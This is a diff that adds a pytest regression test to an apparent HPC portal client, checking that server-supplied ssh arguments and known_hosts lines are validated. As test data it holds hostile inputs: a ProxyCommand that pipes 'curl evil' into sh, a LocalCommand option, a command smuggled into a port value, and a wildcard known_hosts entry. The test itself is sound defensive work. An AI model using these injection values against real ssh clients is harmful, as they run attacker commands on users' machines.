@@ -350,3 +350,38 @@ def test_tag_and_note_commands_parse():
     assert (args.id, args.text) == (12, "lr too high")
     args = cli.parse_args(["submit", "--tag", "a", "--tag", "b", "--param", "lr=1", "--", "x"])
     assert args.tag == ["a", "b"] and args.param == ["lr=1"] and not args.keep_diff
+
+
+def test_portal_ssh_runs_only_the_ssh_arguments_the_portal_itself_sends():
+    """Before: `portal ssh` exec'd whatever argv and known_hosts lines the server answered:
+    a server (or anyone between) that sent -oProxyCommand=... ran a command on the
+    person's machine."""
+    from portal_client import cli
+
+    sent = [
+        "-i", "/home/ann/.ssh/id_ed25519",
+        "-o", "CertificateFile=/home/ann/.cache/portal/ssh/job-7-cert.pub",
+        "-o", "IdentitiesOnly=yes",
+        "-o", "UserKnownHostsFile=/home/ann/.cache/portal/ssh/known_hosts",
+        "-o", "StrictHostKeyChecking=yes",
+        "-p", "2222", "hpcuser@login.example.org", "-T", "--", "echo 'a b'",
+    ]  # fmt: skip
+    assert cli.checked_ssh_args(sent) == sent
+    jumped = ["-i", "k", "-J", "ann@login.example.org:2222", "ann@gpu07", "--", "x"]
+    assert cli.checked_ssh_args(jumped) == jumped
+    for hostile in (
+        ["-o", "ProxyCommand=sh -c 'curl evil|sh'", "ann@h"],
+        ["-oProxyCommand=x", "ann@h"],
+        ["-o", "LocalCommand=x", "ann@h"],
+        ["-J", "-oProxyCommand=x", "ann@h"],
+        ["-p", "22; x", "ann@h"],
+        ["--oops"],
+        "ann@h",
+    ):
+        with pytest.raises(cli.PortalError, match="ssh argument"):
+            cli.checked_ssh_args(hostile)
+    good = "[login.example.org]:2222 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0"
+    assert cli._known_hosts_line(good + "\n") == good
+    for hostile_line in (good + "\n* ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0", "x"):
+        with pytest.raises(cli.PortalError, match="known_hosts"):
+            cli._known_hosts_line(hostile_line)
